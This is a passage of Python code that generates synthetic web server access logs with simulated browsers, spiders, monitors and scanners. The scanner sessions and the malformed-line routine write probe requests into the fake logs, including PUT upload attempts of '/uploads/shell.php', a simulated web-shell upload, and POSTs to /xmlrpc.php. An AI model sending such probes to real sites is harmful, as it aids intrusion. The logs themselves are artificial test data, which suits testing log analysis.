                for aurl, asize in page.assets:
                    if self.real:
                        aurl = self.asset_url(aurl, ua)
                    tt += int(rnd() < 0.5)
                    if returning and rnd() < 0.3:
                        emit(tt, host, "GET", aurl, 304, "-", here, ua, proto)
                    else:
                        emit(tt, host, "GET", aurl, 200, asize, here, ua, proto)
                if rnd() < 0.008:
                    # A broken link in the page.
                    emit(tt, host, "GET", R.choice(site.dead), 404, 1214, here, ua, proto)
                if page.kind == "prod" and rnd() < 0.015:
                    tt = self.download(tt + 2, host, here, ua, proto)
                elif page.kind == "home" and rnd() < 0.01:
                    tt = self.video(tt + 3, host, here, ua, proto)
            n_pages += 1
            last_url = url
            ref = here
            t += 3 + min(900, int(R.expovariate(1 / 40.0)))

            if page is site.checkout:
                # Form sent, redirected to the goal page.
                emit(t, host, "POST", "/checkout/pay.php" + (("?" + sid) if sid else ""), 301, 238, here, ua, proto)
                t += 1
                page = site.thanks
                continue
            if page is site.contact and rnd() < 0.3:
                emit(t, host, "POST", last_url, 200, site.contact.size + 240, here, ua, proto)
                t += 5 + int(R.expovariate(1 / 30.0))
            if page is site.thanks or n_pages >= 40 or rnd() > self.stay:
                break
            page = self.pick_page(page)
        return t

    def pick_visitor(self, t):
        """(host, agent, is_ios, returning) of a human session's visitor."""
        R = self.rng
        pool = len(self.hosts)
        idx = int(pool * R.random() ** 1.4)
        host = self.hosts[idx]
        if self.shared[idx]:
            ai = R.choices(range(len(self.agents)), cum_weights=self.agent_cum)[0]
        else:
            ai = self.host_agent[idx]
        returning = self.visited[idx]
        self.visited[idx] = 1
        return host, self.agents[ai], self.agent_ios[ai], returning

    def session_id(self):
        """A session parameter (name=value) carried in the links of a session, or None."""
        R = self.rng
        if R.random() < 0.12:
            token = f"{R.getrandbits(128):032x}" if R.random() < 0.6 else f"{R.getrandbits(48):012x}"
            return ("PHPSESSID=" if R.random() < 0.6 else "sid=") + token
        return None

    def page_url(self, page):
        return page.url

    def site_base(self):
        """The scheme and host the visitor's browser shows the site under."""
        return self.rng.choice(["https://www.example.com", "https://www.example.com", "https://www.example.com",
                                "https://www.example.com", "http://example.com", "https://example.com",
                                "http://www.example.com"])

    def common_assets(self, t):
        return self.site.common

    def gclid_value(self):
        R = self.rng
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
        return "EAIaIQobChMI" + "".join(R.choice(alphabet) for _ in range(26)) + "_BwE"

    def entry_page(self):
        R = self.rng
        r = R.random()
        s = self.site
        if r < 0.25:
            return s.home
        if r < 0.65:
            return s.products[int(len(s.products) * R.random() ** 2)]
        if r < 0.78:
            return R.choice(s.cats)
        if r < 0.90:
            return R.choice(s.blog)
        if r < 0.95:
            return R.choice(s.items)
        return R.choice(s.info)

    def pick_page(self, page):
        R = self.rng
        s = self.site
        kind = page.kind if page is not None else "home"
        r = R.random()
        if kind == "cart" and page is s.cart:
            if r < 0.35:
                return s.checkout
            if r < 0.75:
                return s.products[int(len(s.products) * R.random() ** 2)]
            return R.choice(s.cats)
        if kind == "prod":
            if r < 0.30:
                return s.products[int(len(s.products) * R.random() ** 2)]
            if r < 0.50:
                return R.choice(s.cats)
            if r < 0.62:
                return s.cart
            if r < 0.70:
                return s.home
            if r < 0.80:
                return R.choice(s.items)
            if r < 0.88:
                return self.search_page()
            if r < 0.93:
                return s.contact if R.random() < 0.4 else R.choice(s.info)
            return R.choice(s.blog)
        if kind == "item":
            if r < 0.40:
                return R.choice(s.items)
            if r < 0.60:
                return s.cart
            return s.products[int(len(s.products) * R.random() ** 2)]
        if kind == "cat":
            if r < 0.60:
                return s.products[int(len(s.products) * R.random() ** 2)]
            if r < 0.75:
                return R.choice(s.cats)
            if r < 0.85:
                return s.home
            if r < 0.93:
                return self.search_page()
            return R.choice(s.items)
        if kind == "blog":
            if r < 0.35:
                return R.choice(s.blog)
            if r < 0.50:
                return s.blog_index
            if r < 0.65:
                return s.home
            return s.products[int(len(s.products) * R.random() ** 2)]
        if kind == "search":
            if r < 0.55:
                return s.products[int(len(s.products) * R.random() ** 2)]
            if r < 0.80:
                return R.choice(s.items)
            return self.search_page()
        # home, info
        if r < 0.45:
            return R.choice(s.cats)
        if r < 0.65:
            return s.products[int(len(s.products) * R.random() ** 2)]
        if r < 0.75:
            return R.choice(s.blog) if R.random() < 0.7 else s.blog_index
        if r < 0.85:
            return self.search_page()
        if r < 0.95:
            return R.choice(s.info) if R.random() < 0.7 else s.contact
        return R.choice(s.items)

    def search_page(self):
        t = self.refs.term()
        return Page("/search.php?q=" + self.refs.plus[t], "search", 9000 + 37 * len(t), [], True)

    def download(self, t, host, ref, ua, proto):
        R = self.rng
        url, size = self.site.downloads[R.getrandbits(1)]
        if R.random() < 0.5:
            self.emit(t, host, "GET", url, 200, size, ref, ua, proto)
            return t + 1
        # PDF viewers fetch in ranges: a first request cut short, then parts.
        self.emit(t, host, "GET", url, 200, R.randint(32768, 131072), ref, ua, proto)
        for _ in range(R.randint(2, 6)):
            t += R.randint(0, 2)
            self.emit(t, host, "GET", url, 206, R.randint(16384, 262144), ref, ua, proto)
        return t

    def video(self, t, host, ref, ua, proto):
        R = self.rng
        url, _ = self.site.video
        for _ in range(R.randint(2, 9)):
            self.emit(t, host, "GET", url, 206, R.randint(65536, 2097152), ref, ua, proto)
            t += R.randint(1, 12)
        return t

    # -- spiders ---------------------------------------------------------------

    def spider_session(self, t):
        R = self.rng
        rnd = R.random
        s = self.site
        uas, addrs = self.spider_pick()
        ua = R.choice(uas)
        host = R.choice(addrs)
        emit = self.emit
        image_bot = ua.startswith("Googlebot-Image") or "YandexImages" in ua
        if rnd() < 0.35:
            emit(t, host, "GET", "/robots.txt", *((200, 312) if rnd() < 0.85 else (304, "-")), "-", ua)
            t += R.randint(1, 20)
        n = 1 + min(60, int(R.expovariate(1 / 5.0)))
        for _ in range(n):
            r = rnd()
            ref = "-"
            if image_bot:
                p = R.choice(s.products)
                url, size = R.choice(p.assets)
                status = 200
            elif r < 0.05:
                url, size, status = R.choice(s.redirects), 238, 301
            elif r < 0.08:
                url, size, status = R.choice(s.dead), 1214, 404
            elif r < 0.10:
                url, size, status = "/sitemap.xml", 18422, 200
            elif r < 0.12:
                url, size, status = R.choice(s.downloads)[0], 0, 200
                size = s.downloads[0][1] if url == s.downloads[0][0] else s.downloads[1][1]
            else:
                p = R.choice(s.all_pages)
                url, size, status = p.url, p.size, 200
            if status == 200 and "Googlebot" in ua and rnd() < 0.15:
                status, size = 304, "-"
            if status == 200 and rnd() < 0.03:
                ref = "https://www.example.com/"
            emit(t, host, "GET", url, status, size, ref, ua)
            t += 1 + min(600, int(R.expovariate(1 / 20.0)))
        return t

    # -- everything else -----------------------------------------------------------

    def misc_session(self, t):
        R = self.rng
        r = R.random()
        emit = self.emit
        s = self.site
        a, b, c, d = random_ipv4(R)
        host = f"{a}.{b}.{c}.{d}"
        if r < 0.15:
            ua = R.choice(SCANNER_AGENTS)
            emit(t, host, "GET", "/", 200, s.home.size, "-", ua)
            for _ in range(R.randint(3, 25)):
                t += R.randint(0, 2)
                path = R.choice(SCANNER_PATHS)
                method = "POST" if path == "/xmlrpc.php" and R.random() < 0.5 else "GET"
                emit(t, host, method, path, 404, R.choice([196, 209, 1214]), "-", ua, "HTTP/1.1" if R.random() < 0.7 else "HTTP/1.0")
        elif r < 0.55:
            # An uptime monitor: a few HEAD requests five minutes apart.
            host = "216.144.250.150" if R.random() < 0.5 else "69.162.124.235"
            for _ in range(R.randint(1, 6)):
                emit(t, host, "HEAD", "/", 200, "-", "-", MONITOR_AGENT)
                t += 300
        elif r < 0.75:
            ua = R.choice(FEED_AGENTS)
            for _ in range(R.randint(1, 3)):
                ok = R.random() < 0.4
                emit(t, host, "GET", "/blog/feed.xml", 200 if ok else 304, 28411 if ok else "-", "-", ua)
                t += R.randint(1, 5)
        elif r < 0.85:
            ua = CHECKER_AGENT
            for _ in range(R.randint(2, 12)):
                p = R.choice(s.all_pages)
                emit(t, host, "HEAD", p.url, 200, "-", "-", ua)
                t += 1
        elif r < 0.99:
            ua = R.choice(TOOL_AGENTS)
            url, size = R.choice(s.downloads) if R.random() < 0.6 else ("/", s.home.size)
            emit(t, host, "GET", url, 200, size, "-", ua, "HTTP/1.1" if R.random() < 0.6 else "HTTP/1.0")
        else:
            # A connection opened and never used.
            self.out.append((t, f'{host} - - {self.dayp[t // DAY]}{self.hms[t % DAY]} "-" 408 - "-" "-"\n'))
        return t

    # -- malformed lines ---------------------------------------------------------

    def mangle(self, line):
        R = self.rng
        k = self.mangled % 3
        self.mangled += 1
        if k == 0:
            # An upload attempt with a method the site refuses.
            return self.rewrite(line, "PUT", R.choice(["/uploads/shell.php", "/test.txt", "/index.html"]), 405, 231)
        if k == 1:
            return line.replace("[", "", 1).replace("]", "", 1)
        # Cut short, as when a server dies mid-write; keep some text after the address.
        q = line.index('"')
        cut = R.randint(q + 5, max(q + 6, len(line) - 3))
        return line[:cut].rstrip(" ") + "\n"

    def odd_link(self, line):
        """A request for a link whose bytes are Latin-1 (or, now and then, raw UTF-8)."""
        odd = self.site.dead_odd
        self.odd_links += 1
        return self.rewrite(line, "GET", odd[(self.odd_links - 1) % len(odd)], 404, 1214)

    @staticmethod
    def rewrite(line, method, url, status, nbytes):
        """The same client, time, referrer and agent with another request and outcome."""
        q = line.index('"')
        end = line.index('" ', q + 1)
        request = line[q + 1:end]
        if " HTTP/" not in request:
            return line
        proto = request.rsplit(" ", 1)[1]
        rest = line[end + 2:].split(" ", 2)[2]
        return f'{line[:q + 1]}{method} {url} {proto}" {status} {nbytes} {rest}'

    # -- driver ----------------------------------------------------------------

    def run(self, write):
        R = self.rng
        N = self.N
        buckets = self.days * 24
        hw = []
        for b in range(buckets):
            day = self.start + datetime.timedelta(days=b // 24)
            w = DIURNAL[b % 24] * (0.8 if day.weekday() >= 5 else 1.0)
            hw.append(w)
        hw_total = sum(hw)
        nh = N * HUMAN_SHARE
        ns = N * SPIDER_SHARE
        nm = N - nh - ns
        cum_h = cum_s = cum_m = 0.0
        gen_h = gen_s = gen_m = 0
        written = 0
        # The first of each rare line comes early, so that even a short log shows it.
        next_bad = int(R.uniform(0.05, 1.0) * MALFORMED_EVERY)
        next_odd = int(R.uniform(0.05, 1.0) * ODD_LINK_EVERY)
        carry = []
        out = self.out
        for b in range(buckets):
            t0 = b * HOUR
            cum_h += nh * hw[b] / hw_total
            cum_s += ns / buckets
            cum_m += nm / buckets
            if b == buckets - 1:
                cum_h, cum_s, cum_m = nh, ns, nm
            self.out = out = carry
            n0 = len(out)
            # Interleave the three kinds so that sessions are spread over the hour.
            while gen_h < cum_h or gen_s < cum_s or gen_m < cum_m:
                if gen_h < cum_h:
                    self.human_session(t0 + R.randrange(HOUR))
                    gen_h += len(out) - n0
                    n0 = len(out)
                if gen_s < cum_s and R.random() < 0.3:
                    self.spider_session(t0 + R.randrange(HOUR))
                    gen_s += len(out) - n0
                    n0 = len(out)
                if gen_m < cum_m and R.random() < 0.2:
                    self.misc_session(t0 + R.randrange(HOUR))
                    gen_m += len(out) - n0
                    n0 = len(out)
            end = t0 + HOUR
            if b == buckets - 1:
                # The log ends at midnight of the last day, as a rotated log does; sessions
                # that would run past it are cut, and more start until the count is reached.
                inside = sum(1 for rec in out if rec[0] < end)
                while written + inside < N:
                    n0 = len(out)
                    self.human_session(t0 + R.randrange(HOUR))
                    inside += sum(1 for rec in out[n0:] if rec[0] < end)
            out.sort(key=itemgetter(0))
            i = len(out)
            while i > 0 and out[i - 1][0] >= end:
                i -= 1
            carry = out[i:]
            lines = [rec[1] for rec in out[:i]]
            if written + len(lines) > N:
                del lines[N - written:]
            while next_odd < written + len(lines):
                j = next_odd - written
                lines[j] = self.odd_link(lines[j])
                next_odd += int(R.uniform(0.2, 1.8) * ODD_LINK_EVERY)
            while next_bad < written + len(lines):
                j = next_bad - written
                lines[j] = self.mangle(lines[j])
                next_bad += int(R.uniform(0.2, 1.8) * MALFORMED_EVERY)
            write("".join(lines).encode("latin-1"))
            written += len(lines)
            if written >= N:
                break
        return written


# ---------------------------------------------------------------------------
# Real variety (--variety real): the long tails a public site sees. Agents are put together
# from browser, version, system and device the way real ones are, so most visitors share a
# few dozen agents while many bring one seen once or twice; addresses come from many
# networks, a share of them IPv6 whose interface part changes from day to day; links carry
# filters, paging, search terms, campaign tags and session IDs; referrers hold search terms
# from a generated vocabulary. All counts of distinct values grow with the log, as they do.

def skew(R, n, k):
    """0 .. n-1, small values far more often; a larger k gives a longer, thinner tail."""
    return int(n * R.random() ** k)


def pick_w(R, items):
    """One value of [(weight, value)]: for short tables picked now and then."""
    x = R.random() * sum(w for w, _ in items)
    for w, v in items:
        x -= w
        if x < 0:
            return v
    return items[-1][1]


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def token(R, n, alphabet=ALNUM):
    return "".join(alphabet[R.getrandbits(6) % len(alphabet)] for _ in range(n))


def chrome_build(m):
    """The build number Chrome had at major version m (near enough)."""
    return 4896 + (m - 100) * 60 if m >= 100 else 4896 - (100 - m) * 45


def chrome_major(R):
    if R.random() < 0.03:
        return R.choice([49, 58, 66, 70, 79, 83, 87, 91, 95, 99, 103, 107])
    return 131 - skew(R, 24, 2.6)


def release_patch(R, m):
    """One of the eight patch releases a browser had at major version m, the later ones more often."""
    return 20 + (m * 37 + (7 - skew(R, 8, 1.6)) * 23) % 190


def chrome_version(R, m, reduced):
    if reduced and m >= 110:
        return f"{m}.0.0.0"
    return f"{m}.0.{chrome_build(m)}.{release_patch(R, m)}"


WINDOWS_TOKENS = [(80, "Windows NT 10.0; Win64; x64"), (2, "Windows NT 10.0; WOW64"), (2, "Windows NT 10.0"),
                  (6, "Windows NT 6.1; Win64; x64"), (1.5, "Windows NT 6.1; WOW64"), (1, "Windows NT 6.1"),
                  (2, "Windows NT 6.3; Win64; x64"), (0.6, "Windows NT 6.2; Win64; x64"),
                  (0.3, "Windows NT 6.0"), (0.2, "Windows NT 5.1")]


def mac_token(R, sep="_"):
    if R.random() < 0.86:
        v = "10_15_7"
    else:
        major = R.choice([10, 10, 11, 12, 13, 14])
        if major == 10:
            v = f"10_{R.randint(11, 15)}_{R.randint(0, 7)}"
        else:
            v = f"{major}_{skew(R, 7, 1.5)}" + (f"_{R.randint(1, 3)}" if R.random() < 0.4 else "")
    return "Macintosh; Intel Mac OS X " + v.replace("_", sep)


ANDROID_VERSIONS = [(30, "14"), (26, "13"), (15, "12"), (12, "11"), (9, "10"), (5, "9"), (2, "8.1.0"), (1, "8.0.0")]
ANDROID_BUILDS = {"14": ("UP1A", 23), "13": ("TP1A", 22), "12": ("SP1A", 21), "11": ("RP1A", 20), "10": ("QP1A", 19),
                  "9": ("PPR1", 18), "8.1.0": ("OPM1", 17), "8.0.0": ("OPR6", 17)}
SAMSUNG_SERIES = [(30, "A", [105, 125, 135, 136, 145, 146, 155, 156, 165, 202, 215, 225, 235, 245, 256, 305, 315,
                             325, 336, 346, 356, 366, 405, 415, 505, 515, 525, 536, 546, 556, 705, 715, 725]),
                  (20, "S", [901, 906, 908, 911, 916, 918, 921, 926, 928, 711, 721]),
                  (14, "G", [780, 781, 960, 965, 970, 973, 975, 980, 981, 985, 986, 988, 991, 996, 998, 950, 930]),
                  (8, "M", [127, 135, 215, 236, 315, 325, 336, 526, 536]),
                  (5, "N", [950, 960, 970, 975, 976, 981, 986]), (5, "F", [711, 721, 731, 936, 946, 956]),
                  (6, "T", [220, 225, 290, 295, 500, 505, 510, 515, 570, 575, 736, 870, 875, 970])]
SAMSUNG_SUFFIX = [(30, "B"), (12, "F"), (8, "U"), (6, "B/DS"), (5, "FN"), (5, "N"), (4, "W"), (3, "U1"), (3, "M"), (2, "E")]


def android_device(R):
    """(model, Android version, build id) of a phone or tablet."""
    v = pick_w(R, ANDROID_VERSIONS)
    r = R.random()
    if r < 0.42:
        series, nums = pick_w(R, [(w, (s, n)) for w, s, n in SAMSUNG_SERIES])
        model = f"SM-{series}{nums[skew(R, len(nums), 1.6)]}{pick_w(R, SAMSUNG_SUFFIX)}"
    elif r < 0.55:
        model = R.choice(["Redmi Note {} Pro", "Redmi Note {}", "Redmi {}", "Mi {}", "POCO X{}", "Xiaomi {}T"]).format(
            R.randint(7, 14))
        if R.random() < 0.5:
            model = f"{R.randint(20, 24)}{R.randint(1, 12):02d}{R.randint(0, 999):03d}{R.choice(['G', 'AG', 'RAAEG', 'TG', 'NG'])}"
    elif r < 0.65:
        model = f"Pixel {R.randint(4, 9)}{R.choice(['', '', ' a', ' Pro', ' XL', ' Pro Fold'])}".replace("Pixel 4 Pro Fold", "Pixel 4")
    elif r < 0.72:
        model = R.choice(["CPH", "CPH", "RMX", "V2", "IN20", "LE21"]) + f"{R.randint(1000, 3999) if R.random() < 0.5 else R.randint(100, 399)}"
    elif r < 0.78:
        model = f"moto g{R.choice(['', ' power', ' stylus', ' play'])}{R.choice(['', ' 5G'])} ({R.randint(2020, 2024)})" \
            if R.random() < 0.5 else f"moto g{R.randint(10, 84)}{R.choice(['', ' 5G', ' power'])}"
    elif r < 0.84:
        model = f"{R.choice(['ELE', 'VOG', 'MAR', 'ANE', 'JNY', 'NOH', 'LYA', 'STK', 'JKM', 'POT'])}-{R.choice(['L29', 'LX1', 'LX1A', 'L09', 'AL00', 'LX2', 'NX9'])}"
    elif r < 0.88:
        model = f"Nokia {R.choice(['G', 'X', 'C', 'G'])}{R.randint(10, 60)}"
    elif r < 0.91:
        model = f"LM-{R.choice(['Q', 'K', 'G', 'X'])}{R.randint(300, 999)}"
    elif r < 0.95:
        model = f"{R.choice(['Lenovo TB-', 'TB-', 'KF', 'HUAWEI AGS3-'])}{R.randint(300, 9999)}{R.choice(['F', 'X', 'FU', 'L09', ''])}"
    else:
        model = f"{R.choice(['TECNO', 'Infinix', 'itel', 'ZTE', 'Blade', 'Fairphone', 'FP', 'SHARP', 'Sony', 'XQ-'])}{R.choice([' ', '-', ''])}{token(R, 2, 'ABCDEFGHKLMNPRSTUVX')}{R.randint(1, 999)}"
    code, year = ANDROID_BUILDS[v]
    yy = year + skew(R, 2, 1.0)
    build = f"{code}.{yy}{R.randint(1, 12):02d}{R.randint(1, 28):02d}.{skew(R, 60, 2):03d}"
    return model, v, build


IOS_MAJORS = [(36, 18, 2), (30, 17, 7), (14, 16, 7), (8, 15, 8), (4, 14, 8), (2, 13, 7), (3, 12, 5)]


def ios_version(R):
    """(underscored version for the system token, dotted major.minor) of an iPhone or iPad."""
    major, top = pick_w(R, [(w, (m, t)) for w, m, t in IOS_MAJORS])
    minor = top - skew(R, top + 1, 1.7)
    patch = skew(R, 4, 2.2)
    text = f"{major}_{minor}" + (f"_{patch}" if patch else "")
    return text, f"{major}.{minor}"


def ios_build(R, major):
    return f"{major + 4}{R.choice('ABCDEFGH')}{5 + skew(R, 120, 1.8)}"


LOCALES = ["de_DE", "de_DE", "de_DE", "en_US", "en_GB", "fr_FR", "de_AT", "de_CH", "nl_NL", "it_IT", "es_ES", "pl_PL"]
IE_TOKENS = ["SLCC1", "SLCC2", ".NET CLR 1.1.4322", ".NET CLR 2.0.50727", ".NET CLR 3.0.4506.2152", ".NET CLR 3.0.30729",
             ".NET CLR 3.5.30729", "Media Center PC 5.0", "Media Center PC 6.0", "Tablet PC 2.0", "InfoPath.1",
             "InfoPath.2", "InfoPath.3", ".NET4.0C", ".NET4.0E", "MDDR", "BRI/2", "Zoom 3.6.0", "GTB7.5", "MAAU",
             "McAfee", "MALC", "ASU2JS", "Microsoft Outlook 16.0.4266; ms-office; MSOffice 16"]


class AgentMaker:
    """Human visitors' agents, kept once each: a visitor's agent is an index into `agents`."""

    def __init__(self, rng):
        self.R = rng
        self.agents = []
        self.ios = []
        self.known = {}  # agent -> index; only looked up
        self.family = weighted(rng, [
            (23, self.chrome_windows), (5, self.chrome_mac), (1.5, self.chrome_linux), (0.7, self.chrome_cros),
            (17, self.chrome_android), (5, self.samsung), (7, self.edge), (1.5, self.opera), (0.5, self.yandex),
            (0.4, self.vivaldi), (6, self.firefox), (0.7, self.firefox_android), (14, self.safari_ios),
            (2, self.safari_ipad), (4, self.safari_mac), (1.8, self.ios_app), (1.4, self.android_app),
            (0.6, self.legacy_ie), (0.6, self.other), (0.15, self.odd)])

    def make(self):
        ua, ios = self.family()()
        i = self.known.get(ua)
        if i is None:
            i = len(self.agents)
            self.known[ua] = i
            self.agents.append(ua)
            self.ios.append(ios)
        return i

    def chrome_desktop(self, m, system, reduced_share):
        """A desktop Chrome of major version m on system; reduced_share of them send the reduced
        version form. The system is drawn before the version, as each caller passes it."""
        R = self.R
        return (f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{chrome_version(R, m, R.random() < reduced_share)} Safari/537.36"), False

    def chrome_windows(self):
        m = chrome_major(self.R)
        return self.chrome_desktop(m, pick_w(self.R, WINDOWS_TOKENS), 0.96)

    def chrome_mac(self):
        m = chrome_major(self.R)
        return self.chrome_desktop(m, mac_token(self.R), 0.96)

    def chrome_linux(self):
        m = chrome_major(self.R)
        return self.chrome_desktop(m, "X11; Linux x86_64", 0.9)

    def chrome_cros(self):
        R = self.R
        m = chrome_major(R)
        system = (f"X11; CrOS {R.choice(['x86_64', 'x86_64', 'aarch64', 'armv7l'])} "
                  f"{14000 + (m - 100) * 200 + 7 * skew(R, 4, 1)}.{skew(R, 4, 1.5) * 17}.0")
        return self.chrome_desktop(m, system, 0.8)

    def chrome_android(self):
        R = self.R
        m = chrome_major(R)
        if m >= 110 and R.random() < 0.9:
            return (f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{m}.0.0.0 "
                    f"{'Mobile ' if R.random() < 0.9 else ''}Safari/537.36"), False
        model, v, build = android_device(R)
        b = f" Build/{build}" if R.random() < 0.3 else ""
        return (f"Mozilla/5.0 (Linux; Android {v}; {model}{b}) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{chrome_version(R, m, False)} Mobile Safari/537.36"), False

    def samsung(self):
        R = self.R
        sv = f"{27 - skew(R, 10, 1.8)}.{skew(R, 3, 2)}"
        m = R.choice([115, 117, 122, 125, 130])
        if R.random() < 0.7:
            system = "Linux; Android 10; K"
        else:
            model, v, _ = android_device(R)
            system = f"Linux; Android {v}; SAMSUNG {model if model.startswith('SM-') else 'SM-A' + str(R.randint(100, 599)) + 'B'}"
        tail = "Mobile Safari/537.36" if R.random() < 0.9 else "Safari/537.36"
        return (f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{sv} "
                f"Chrome/{m}.0.0.0 {tail}"), False

    def edge(self):
        R = self.R
        m = chrome_major(R)
        ev = f"{m}.0.{max(100, 2903 - (131 - m) * 57)}.{release_patch(R, m + 5)}"
        if R.random() < 0.12:
            model, v, _ = android_device(R)
            return (f"Mozilla/5.0 (Linux; Android {v}; {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{m}.0.0.0 Mobile Safari/537.36 EdgA/{ev}"), False
        system = pick_w(R, WINDOWS_TOKENS) if R.random() < 0.92 else mac_token(R)
        return (f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{m}.0.0.0 "
                f"Safari/537.36 Edg/{ev}"), False

    def opera(self):
        R = self.R
        m = chrome_major(R)
        if R.random() < 0.3:
            model, v, _ = android_device(R)
            return (f"Mozilla/5.0 (Linux; Android {v}; {model}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{chrome_version(R, m, False)} Mobile Safari/537.36 OPR/{m - 46}.{R.randint(0, 9)}."
                    f"{R.randint(2000, 6999)}.{R.randint(10000, 99999)}"), False
        ov = f"{m - 16}.0.0.0" if R.random() < 0.7 else f"{m - 16}.0.{5000 + (m - 100) * 60}.{release_patch(R, m + 9)}"
        return (f"Mozilla/5.0 ({pick_w(R, WINDOWS_TOKENS)}) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{m}.0.0.0 Safari/537.36 OPR/{ov}"), False

    def yandex(self):
        R = self.R
        minor = 12 - skew(R, 12, 2)
        yv = f"24.{minor}.{skew(R, 3, 2)}.{(minor * 97) % 900 + 100}"
        return (f"Mozilla/5.0 ({pick_w(R, WINDOWS_TOKENS)}) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{chrome_major(R)}.0.0.0 YaBrowser/{yv} Yowser/2.5 Safari/537.36"), False

    def vivaldi(self):
        R = self.R
        minor = 9 - skew(R, 6, 1.5)
        vv = f"{'7.0' if minor == 9 else '6.' + str(minor)}.{3000 + minor * 55}.{18 + skew(R, 4, 1) * 11}"
        system = pick_w(R, WINDOWS_TOKENS) if R.random() < 0.6 else R.choice(["X11; Linux x86_64", mac_token(R)])
        return (f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome_major(R)}.0.0.0 "
                f"Safari/537.36 Vivaldi/{vv}"), False

    def firefox(self):
        R = self.R
        if R.random() < 0.85:
            v = 133 - skew(R, 14, 2.5)
        else:
            v = R.choice([115, 115, 128, 102, 91, 78, 68, 60, 52])
        r = R.random()
        if r < 0.72:
            system = pick_w(R, WINDOWS_TOKENS)
        elif r < 0.84:
            system = mac_token(R, ".").replace(" 10.15.7", " 10.15")
        else:
            system = R.choice(["X11; Linux x86_64", "X11; Ubuntu; Linux x86_64", "X11; Fedora; Linux x86_64",
                               "X11; Linux i686", "X11; FreeBSD amd64", "X11; OpenBSD amd64"])
        minor = f".{skew(R, 3, 2)}" if R.random() < 0.3 else ""
        return f"Mozilla/5.0 ({system}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0{minor}", False

    def firefox_android(self):
        R = self.R
        v = 133 - skew(R, 12, 2.5)
        form = R.choice(["Mobile", "Mobile", "Tablet"])
        return f"Mozilla/5.0 (Android {pick_w(R, ANDROID_VERSIONS).split('.')[0]}; {form}; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0", False

    def safari_ios(self):
        R = self.R
        os_text, dotted = ios_version(R)
        return (f"Mozilla/5.0 (iPhone; CPU iPhone OS {os_text} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{dotted} Mobile/15E148 Safari/604.1"), True

    def safari_ipad(self):
        R = self.R
        os_text, dotted = ios_version(R)
        if R.random() < 0.5:  # iPads ask for the desktop site by default
            return (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    f"Version/{dotted} Safari/605.1.15"), True
        return (f"Mozilla/5.0 (iPad; CPU OS {os_text} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{dotted} Mobile/15E148 Safari/604.1"), True

    def safari_mac(self):
        R = self.R
        if R.random() < 0.85:
            sv = R.choice(["18.1", "18.1.1", "18.0", "18.0.1", "17.6", "17.5", "17.4.1", "17.3.1", "17.1", "16.6",
                           "16.5.2", "16.1", "15.6.1"][:4 + skew(R, 10, 1.5)])
            system = "Macintosh; Intel Mac OS X 10_15_7"
        else:
            old = R.choice([("10_11_6", "11.1.2"), ("10_12_6", "12.1.2"), ("10_13_6", "13.1.2"), ("10_14_6", "14.1.2"),
                            ("10_15_6", "15.6.1")])
            system, sv = "Macintosh; Intel Mac OS X " + old[0], old[1]
        return (f"Mozilla/5.0 ({system}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{sv} "
                f"Safari/605.1.15"), False

    def ios_app(self):
        R = self.R
        os_text, dotted = ios_version(R)
        major = int(dotted.split(".")[0])
        device = "iPhone" if R.random() < 0.88 else "iPad"
        cpu = f"CPU iPhone OS {os_text}" if device == "iPhone" else f"CPU OS {os_text}"
        head = f"Mozilla/5.0 ({device}; {cpu} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
        r = R.random()
        if r < 0.3:
            m = chrome_major(R)
            return f"{head} CriOS/{chrome_version(R, m, False)} Mobile/15E148 Safari/604.1", True
        if r < 0.4:
            return f"{head} FxiOS/{133 - skew(R, 10, 2)}.{skew(R, 3, 2)} Mobile/15E148 Safari/605.1.15", True
        if r < 0.46:
            m = chrome_major(R)
            return (f"{head} Version/{dotted} EdgiOS/{m}.{skew(R, 3, 2)}.{2800 + skew(R, 120, 1.5)}."
                    f"{skew(R, 100, 2)} Mobile/15E148 Safari/605.1.15"), True
        if r < 0.62:
            return (f"{head} GSA/{345 - skew(R, 12, 2)}.{skew(R, 2, 2)}.{R.randint(600000000, 699999999)} "
                    f"Mobile/15E148 Safari/604.1"), True
        if r < 0.84:
            fbv = 495 - skew(R, 20, 2)
            return (f"{head} Mobile/{ios_build(R, major)} [FBAN/FBIOS;FBAV/{fbv}.0.0.{R.randint(30, 60)}.{R.randint(100, 120)};"
                    f"FBBV/{R.randint(600000000, 699999999)};FBDV/iPhone{R.randint(11, 17)},{R.randint(1, 5)};FBMD/iPhone;"
                    f"FBSN/iOS;FBSV/{dotted};FBSS/3;FBID/phone;FBLC/{R.choice(LOCALES)};FBOP/5;FBRV/0]"), True
        if r < 0.97:
            loc = R.choice(LOCALES)
            w, h = R.choice([(1170, 2532), (1179, 2556), (1284, 2778), (1290, 2796), (828, 1792), (750, 1334)])
            return (f"{head} Mobile/{ios_build(R, major)} Instagram {360 - skew(R, 25, 2)}.0.0.{R.randint(10, 40)}."
                    f"{R.randint(80, 120)} (iPhone{R.randint(11, 17)},{R.randint(1, 5)}; iOS {os_text}; {loc}; "
                    f"{loc.replace('_', '-')}; scale=3.00; {w}x{h}; {R.randint(600000000, 699999999)})"), True
